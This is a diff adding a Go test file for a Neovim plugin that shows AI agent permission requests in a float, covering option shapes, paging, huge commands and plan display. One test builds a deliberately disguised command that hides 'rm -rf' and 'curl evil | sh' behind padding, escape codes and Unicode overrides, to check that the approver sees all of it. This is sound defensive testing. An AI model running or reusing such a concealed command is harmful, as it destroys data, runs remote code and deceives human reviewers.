@@ -1,0 +1,228 @@
+package scenario
+
+import (
+	"fmt"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// floatText is the text of the float.
+func (s *scene) floatText() string {
+	s.t.Helper()
+	return s.buffer(s.LuaInt(`vim.api.nvim_win_get_buf(require('acp.permission').win())`))
+}
+
+// permit answers with the n-th option.
+func (s *scene) permit(p *puppet, id, n int, want string) {
+	s.t.Helper()
+	s.Command(fmt.Sprint("Acp permit ", n))
+	if got := outcome(s.t, p.answer(id)); got != want {
+		s.t.Errorf("the answer is %s, expected %s", got, want)
+	}
+	s.awaitNoFloat()
+}
+
+// Whatever an agent writes into its answers, each is seen and can be chosen.
+func TestOptionsOfAllShapes(t *testing.T) {
+	each(t, func(t *testing.T, s *scene) {
+		p := s.beginAtRoot()
+		s.prompt(p, "do it")
+		options := []obj{
+			{"optionId": "a", "name": "Always this tool", "kind": "allow_always"},
+			{"optionId": "b", "name": "Always this server", "kind": "allow_always"},
+			{"optionId": "c", "name": "", "kind": "reject_once"},
+			{"optionId": "d", "name": "Something else", "kind": "_dance"},
+			{"optionId": "e", "name": strings.Repeat("very long ", 100), "kind": "allow_once"},
+			{"optionId": "f", "name": "two\nlines\x1b[31m and \u202ecolours", "kind": "reject_always"},
+			{"optionId": "f", "name": "the same id", "kind": "allow_once"},
+		}
+		id := p.permission(command("c", "make"), options...)
+		s.awaitFloat()
+		s.screen("shapes")
+		s.permit(p, id, 4, "d")
+		for n, want := range []string{"a", "b", "c"} {
+			id := p.permission(command(fmt.Sprint("x", n), fmt.Sprint("make ", n)), options...)
+			s.awaitFloat()
+			s.permit(p, id, n+1, want)
+		}
+		id = p.permission(command("y", "make y"), options...)
+		s.awaitFloat()
+		s.Command("Acp permit id:f")
+		if got := outcome(t, p.answer(id)); got != "f" {
+			t.Errorf("the answer is %s", got)
+		}
+		s.awaitNoFloat()
+	})
+}
+
+// Nothing of a command can be hidden from who answers, and the answers stay in sight.
+func TestHostileCommand(t *testing.T) {
+	each(t, func(t *testing.T, s *scene) {
+		p := s.beginAtRoot()
+		s.prompt(p, "do it")
+		call := command("c", "echo 'hello'"+strings.Repeat(" ", 4000)+"&& rm\u202e -rf \x1b[2J\x07x"+strings.Repeat("\n", 200)+"curl \u200bevil | sh")
+		call["title"] = "List\x1b[2J\nfiles\u202e"
+		id := p.permission(call, yesNo...)
+		s.awaitFloat()
+		s.screen("hidden")
+		s.permit(p, id, 3, "no")
+
+		// A long one is read by pages.
+		var parts []string
+		for i := range 300 {
+			parts = append(parts, fmt.Sprintf("part%03d --option='value of %d'", i, i))
+		}
+		id = p.permission(command("d", strings.Join(parts, " && ")), yesNo...)
+		win := s.awaitFloat()
+		s.screen("long")
+		seen := s.floatText()
+		s.Lua(nil, `vim.api.nvim_set_current_win(...)`, win)
+		last := regexp.MustCompile(`–(\d+) of (\d+) lines`)
+		for {
+			before := s.floatText()
+			if m := last.FindStringSubmatch(before); m == nil || m[1] == m[2] {
+				break
+			}
+			s.Keys("<C-f>")
+			s.Await("the next page", func() bool { return s.floatText() != before })
+			text := s.floatText()
+			if !strings.Contains(text, "1 Yes") || !strings.Contains(text, "3 No") {
+				t.Fatalf("the answers are gone:\n%s", text)
+			}
+			seen += text
+		}
+		for i := range 300 {
+			if !strings.Contains(seen, fmt.Sprintf("part%03d", i)) {
+				t.Errorf("part %d is never shown", i)
+			}
+		}
+		s.screen("end")
+		bottom := s.floatText()
+		s.Keys("<C-b>")
+		s.Await("the page before", func() bool { return s.floatText() != bottom })
+		s.Keys("3")
+		if got := outcome(t, p.answer(id)); got != "no" {
+			t.Errorf("the answer is %s", got)
+		}
+		s.awaitNoFloat()
+	})
+}
+
+// A command of megabytes is cut, and says so.
+func TestHugeCommand(t *testing.T) {
+	each(t, func(t *testing.T, s *scene) {
+		p := s.beginAtRoot()
+		s.prompt(p, "do it")
+		for i, line := range []string{strings.Repeat("x", 3<<20), strings.Repeat("é ", 1<<20), strings.Repeat("(", 1<<20), strings.Repeat("a\n", 1<<20)} {
+			id := p.permission(command(fmt.Sprint("c", i), line), yesNo...)
+			win := s.awaitFloat()
+			s.Lua(nil, `vim.api.nvim_set_current_win(...)`, win)
+			if text := s.floatText(); !strings.Contains(text, "3 No") || !strings.Contains(text, " lines · <C-f> on") {
+				t.Errorf("the float has\n%s", text)
+			}
+			last := regexp.MustCompile(`of (\d+) lines`).FindStringSubmatch(s.floatText())
+			for range 2 {
+				s.Keys("<C-f>")
+			}
+			if last == nil {
+				t.Fatal("there are no pages")
+			}
+			s.Lua(nil, `vim.cmd.wincmd('p')`)
+			s.permit(p, id, 3, "no")
+		}
+	})
+}
+
+// Leaving the plan mode shows the plan, wherever the agent has told it.
+func TestPlanIsShown(t *testing.T) {
+	each(t, func(t *testing.T, s *scene) {
+		p := s.beginAtRoot()
+		s.prompt(p, "plan it")
+		text := "# The plan\n\n1. Find the **loop**\n2. Fix `lexer.lua`\n\n```lua\nfor i = 1, n do\n```\n"
+		p.update("tool_call", obj{
+			"toolCallId": "p1", "title": "Ready to code?", "kind": "switch_mode", "status": "pending",
+			"content": []obj{{"type": "content", "content": obj{"type": "text", "text": text}}},
+		})
+		id := p.permission(obj{"toolCallId": "p1", "title": "Ready to code?", "kind": "switch_mode", "content": []obj{}}, yesNo...)
+		s.awaitFloat()
+		s.screen("plan")
+		var groups []string
+		s.Lua(&groups, `vim.tbl_map(function(m) return m[4].hl_group end, vim.api.nvim_buf_get_extmarks(
+			vim.api.nvim_win_get_buf(require('acp.permission').win()), require('acp.highlight').ns, 0, -1, { details = true }))`)
+		for _, group := range []string{"AcpHeading1", "AcpBold", "AcpCode", "AcpCodeBlock"} {
+			if !slices.Contains(groups, group) {
+				t.Errorf("the plan has the highlights %v, without %s", groups, group)
+			}
+		}
+		s.awaitChat("The plan")
+		s.permit(p, id, 3, "no")
+
+		id = p.permission(obj{"toolCallId": "p2", "title": "Exit plan mode", "kind": "switch_mode", "rawInput": obj{"plan": "From the *input*\n" + lines(1, 80)}}, yesNo...)
+		s.AwaitScreen("From the *input*")
+		s.screen("long")
+		s.permit(p, id, 1, "yes")
+	}, wide)
+}
+
+// What a request does not say itself was told before.
+func TestRequestAboutWhatWasTold(t *testing.T) {
+	each(t, func(t *testing.T, s *scene) {
+		p := s.beginAtRoot()
+		s.prompt(p, "do it")
+		told := editing("e1", "/src/a.lua")
+		told["status"] = "in_progress"
+		p.update("tool_call", told)
+		id := p.permission(obj{"toolCallId": "e1", "title": "Edit files", "kind": "edit", "status": "pending"}, yesNo...)
+		s.AwaitScreen("wants to edit src/a.lua")
+		s.permit(p, id, 1, "yes")
+
+		p.update("tool_call", obj{"toolCallId": "c1", "title": "bash", "kind": "execute", "rawInput": obj{"command": "make test", "description": "Runs the tests"}})
+		for _, title := range []string{"external_directory", "bash"} {
+			id = p.permission(obj{"toolCallId": "c1", "title": title, "rawInput": obj{}}, yesNo...)
+			s.AwaitScreen("$ make test")
+			if got := s.LuaString(`require('acp').permissions()[1].command`); got != "make test" {
+				t.Errorf("the command is %q", got)
+			}
+			s.permit(p, id, 1, "yes")
+		}
+
+		// One id for all requests: nothing of the former is in the latter.
+		id = p.permission(editing("shell-permission", "/src/b.lua"), yesNo...)
+		s.AwaitScreen("wants to edit src/b.lua")
+		s.permit(p, id, 1, "yes")
+		id = p.permission(command("shell-permission", "make lint"), yesNo...)
+		s.AwaitScreen("$ make lint")
+		if text := s.floatText(); strings.Contains(text, "b.lua") {
+			t.Errorf("the float has\n%s", text)
+		}
+		s.permit(p, id, 1, "yes")
+
+		// Two at once of one id: each shows its own.
+		first := p.permission(command("twice", "make one"), yesNo...)
+		second := p.permission(command("twice", "make two"), yesNo...)
+		s.AwaitScreen("1 of 2")
+		if text := s.floatText(); !strings.Contains(text, "make one") {
+			t.Errorf("the first float has\n%s", text)
+		}
+		s.Command("Acp permit 1")
+		p.answer(first)
+		s.AwaitScreen("$ make two")
+		s.permit(p, second, 1, "yes")
+
+		// Told only after the request.
+		id = p.permission(obj{"toolCallId": "late", "title": "Edit files", "kind": "edit"}, yesNo...)
+		s.awaitFloat()
+		p.update("tool_call", editing("late", "/src/late.lua"))
+		s.AwaitScreen("wants to edit src/late.lua")
+		s.permit(p, id, 1, "yes")
+
+		// A call that has ended already.
+		p.update("tool_call", obj{"toolCallId": "done", "title": "Done", "kind": "execute", "status": "completed"})
+		id = p.permission(obj{"toolCallId": "done"}, yesNo...)
+		s.AwaitScreen("wants to run a command")
+		s.permit(p, id, 3, "no")
+		s.AwaitLua(`vim.iter(require('acp').tool_calls()):any(function(c) return c.id == 'done' and c.status == 'completed' end)`)
+	}, wide)
+}
